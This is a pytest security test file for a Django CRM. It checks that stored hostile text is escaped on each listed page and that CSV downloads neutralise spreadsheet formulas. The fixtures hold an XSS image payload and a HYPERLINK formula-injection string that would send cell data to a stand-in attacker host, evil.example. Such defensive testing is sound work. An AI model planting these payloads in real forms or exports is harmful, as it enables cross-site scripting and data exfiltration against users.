"""Hostile but valid text, stored through the services, is shown escaped on every page that reads it, and
written as text (never as a formula) in every CSV download."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse

from activities.services import activity_log
from dashboards.boards import BOARDS
from dashboards.services import metrics_rollup_dirty
from handoffs.services import handoff_create_sql
from leads.models import Campaign, LeadSource, MqlRejectReason
from leads.services import (
    campaign_email_request_create,
    company_create,
    import_job_create,
    import_job_set_columns,
    lead_create,
    lead_mql_review,
    lead_update_bant,
)
from org.services import user_create
from org.spreadsheet import safe_cell
from tests.fuzz.strategies import SCRIPT
from tests.helpers import TODAY
from tests.opportunities.factories import CSAccountFactory, OpportunityFactory
from tests.worlds import PASSWORD, pipeline_world

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen")]

IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RAW = (SCRIPT.encode(), IMG.encode())
ESCAPED_SCRIPT = b"&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.fixture
def hostile(django_capture_on_commit_callbacks):
    w = pipeline_world()
    w["admin"] = user_create(username="admin", password=PASSWORD, role="admin")
    w["marketer"] = user_create(username="mkt", password=PASSWORD, role="marketing")
    seminar = LeadSource.objects.get(code="seminar")
    campaign = Campaign.objects.create(name=FORMULA, source=seminar)
    company = company_create(name=IMG, employee_count=50, prefecture="13")
    lead = lead_create(
        actor=None,
        company=company,
        last_name=SCRIPT,
        first_name=FORMULA,
        title=IMG,
        source=seminar,
        campaign=campaign,
        origin="inbound",
        owner=w["rep"],
    )
    activity_log(actor=w["rep"], lead=lead, kind="call", direction="outbound", connected=True, note=SCRIPT)
    lead = lead_update_bant(lead=lead, actor=w["rep"], budget=SCRIPT, authority=IMG, needs=FORMULA, timeframe="4月")
    lead_mql_review(lead=lead, actor=w["rep"], verdict="not_a_fit", reason=MqlRejectReason.objects.first(), note=SCRIPT)
    w["handoff"] = handoff_create_sql(
        lead=lead,
        actor=w["rep"],
        to_user=w["fs_a"],
        heard=SCRIPT,
        why_now=IMG,
        decision_process=FORMULA,
        to_confirm=SCRIPT,
    )
    w["lead"], w["deal"] = lead, w["handoff"].opportunity
    w["account"] = CSAccountFactory(
        owner=w["cs"],
        opportunity=OpportunityFactory(won=True, owner=w["fs_a"], company=company, name=SCRIPT),
        success_definition=SCRIPT,
        expansion_notes=IMG,
    )
    w["mail"] = campaign_email_request_create(
        actor=w["rep"],
        subject=SCRIPT,
        body=IMG,
        recipient_list=FORMULA,
        desired_send_on=TODAY + timedelta(days=3),
        campaign=campaign,
    )
    rows = f'会社名,氏名,メールアドレス\n"{IMG}","{SCRIPT}",{FORMULA.replace(chr(34), "")}\n,,-1+1\n'
    job = import_job_create(actor=w["admin"], file_name="list.csv", data=rows.encode(), source=w["source"])
    with django_capture_on_commit_callbacks(execute=True):  # the validation task
        import_job_set_columns(job=job, actor=w["admin"], columns=job.columns, origin=job.origin, team=None)
    job.refresh_from_db()
    w["job"] = job
    metrics_rollup_dirty()
    return w


def get(w, user: str, url: str):
    client = Client()
    client.force_login(w[user])
    response = client.get(url)
    assert response.status_code == 200, url
    return response


def assert_escaped(response, url):
    for raw in RAW:
        assert raw not in response.content, f"{url}: unescaped {raw!r}"


def pages(w) -> list[tuple[str, str]]:
    since, until = (TODAY - timedelta(days=30)).isoformat(), TODAY.isoformat()
    return [
        ("admin", reverse("leads:detail", args=[w["lead"].pk])),
        ("rep", reverse("leads:queue")),
        ("admin", reverse("leads:queue") + "?scope=team"),
        ("admin", reverse("leads:mql_quality")),
        ("marketer", reverse("leads:email_requests")),
        ("marketer", reverse("leads:email_request", args=[w["mail"].pk])),
        ("admin", reverse("leads:import_detail", args=[w["job"].pk])),
        ("admin", reverse("leads:imports")),
        ("fs_a", reverse("handoffs:inbox")),
        ("fs_a", reverse("handoffs:detail", args=[w["handoff"].pk])),
        ("rep", reverse("handoffs:my_sqls")),
        ("fs_a", reverse("opportunities:list")),
        ("fs_a", reverse("opportunities:board")),
        ("fs_a", reverse("opportunities:detail", args=[w["deal"].pk])),
        ("cs", reverse("opportunities:cs_list")),
        ("cs", reverse("opportunities:cs_detail", args=[w["account"].pk])),
        ("admin", reverse("dashboards:alerts")),
        ("admin", reverse("dashboards:records") + f"?metric=leads&since={since}&until={until}"),
        ("admin", reverse("home")),
        *[("admin", reverse("dashboards:board", args=[key])) for key in BOARDS],
    ]


def test_stored_hostile_text_is_escaped_on_every_page(hostile):
    lead_page = get(hostile, "admin", reverse("leads:detail", args=[hostile["lead"].pk]))
    # The value is on the page, escaped: the check below is not passing on a page that never shows it.
    assert ESCAPED_SCRIPT in lead_page.content
    for user, url in pages(hostile):
        assert_escaped(get(hostile, user, url), url)


def csv_cells(response) -> list[str]:
    text = b"".join(response) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]


def test_no_csv_download_holds_a_formula(hostile):
    downloads = [
        reverse("leads:mql_quality") + f"?since={TODAY.replace(day=1)}&until={TODAY}&csv=campaign",
        reverse("leads:mql_quality") + f"?since={TODAY.replace(day=1)}&until={TODAY}&csv=source",
        reverse("leads:import_errors", args=[hostile["job"].pk]),
        *[
            reverse("dashboards:board", args=["marketing"]) + f"?grain=month&period={TODAY}&csv={key}"
            for key in ("inbound-cvr-campaign",)
        ],
    ]
    seen = []
    for url in downloads:
        client = Client()
        client.force_login(hostile["admin"])
        response = client.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response)
        seen += cells
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == [], url
    # The hostile values did reach the files, as text.
    assert "'" + FORMULA in seen
    assert "'-1+1" in seen


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81 3-1234", "'+81 3-1234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("株式会社=A", "株式会社=A"),
        ("", ""),
        (-5, -5),
        (0.25, 0.25),
    ],
)
def test_safe_cell_neutralises_only_text_that_starts_like_a_formula(value, written):
    assert safe_cell(value) == written


def test_a_corrected_error_report_reads_back_as_uploaded():
    """The report's cells go back to the importer after fixing: the apostrophe the report added comes off."""
    from leads.imports import read_csv

    parsed = read_csv("会社名,電話番号,メモ\n株式会社A,'+81 3-1234-5678,'it's\n".encode())

    assert parsed.rows == [[2, ["株式会社A", "+81 3-1234-5678", "'it's"]]]


def test_a_nul_character_in_an_uploaded_file_is_refused_not_a_server_error(hostile):
    client = Client()
    client.force_login(hostile["admin"])
    upload = io.BytesIO("会社名,氏名\n株式会社\x00A,山田 太郎\n".encode())
    upload.name = "nul.csv"

    response = client.post(reverse("leads:imports"), {"file": upload, "source": hostile["source"].pk})

    assert response.status_code == 400
    assert "NUL character" in response.content.decode()
